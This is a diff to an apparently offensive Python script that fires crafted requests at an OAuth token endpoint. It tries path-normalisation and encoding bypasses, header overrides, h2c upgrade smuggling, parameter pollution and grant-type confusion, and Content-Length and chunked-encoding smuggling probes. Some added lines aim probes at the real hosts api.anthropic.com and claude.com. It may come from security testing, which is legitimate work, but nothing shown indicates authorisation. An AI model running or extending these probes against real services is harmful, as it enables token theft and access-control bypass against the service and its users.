@@ -46,11 +46,14 @@ renew = {"grant_type": "refresh_token", "refresh_token": got["refresh_token"]}
 other = sys.argv[1]
 
 for path in ("/v1/oauth/token/", "/v1//oauth/token", "/v1/oauth/%74oken", "/v1/oauth/x/../token", "/V1/OAuth/Token", "/v1/oauth/token;x",
-             "/oauth/token", "/v1/oauth/token%00", "/v1/oauth%252ftoken", "/v1/oauth/./token", "/v1/oauth/token.json",
+             "/v1/oauth;x/token", "/oauth/token", "/v1/oauth/token%00", "/v1/oauth%252ftoken", "/v1/oauth/./token", "/v1/oauth/token.json",
              "/x/%2e%2e/v1/oauth/token", "/v1/oauth\\token"):
     ask("path " + path, post(path, code))
 for field in ("X-HTTP-Method-Override: POST", "X-Original-URL: /v1/oauth/token", "Upgrade: x"):
     ask("field " + field.split(":")[0], post("/page", code, field + "\r\n"))
+for field in ("X-Original-URL: /v1/oauth/token\r\nUpgrade: websocket", "Upgrade: h2c"):
+    ask("API and " + field.split(":")[0], post("/v1/messages", code, field + "\r\nConnection: Upgrade\r\n",
+                                               host="api.anthropic.com"), host="api.anthropic.com")
 ask("other host", post("/v1/oauth/token", code, host="claude.com"))
 ask("GET", post("/v1/oauth/token", code).replace("POST", "GET", 1))
 ask("exchange", post("/v1/oauth/token", json.dumps({"grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
@@ -63,6 +66,7 @@ ask("later", post("/v1/oauth/token", json.dumps({**renew, "refresh_token": re.su
 ask("two tokens", post("/v1/oauth/token", json.dumps(renew)[:-1] + ', "refresh_token": "' + other + '"}'))
 ask("two grants", post("/v1/oauth/token", "grant_type=refresh_token&refresh_token=" + got["refresh_token"] +
                        "&grant_type=authorization_code&code=code-eve", kind="application/x-www-form-urlencoded"))
+ask("other name", post("/v1/oauth/token", json.dumps({**renew, "Grant_Type": "authorization_code", "code": "code-eve"})))
 ask("long", post("/v1/oauth/token", json.dumps({**json.loads(code), "expires_in": 31536000})))
 ask("large", f"POST /v1/oauth/token HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n" + "x" * 1000)
 ask("chunks", f"POST /v1/oauth/token HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
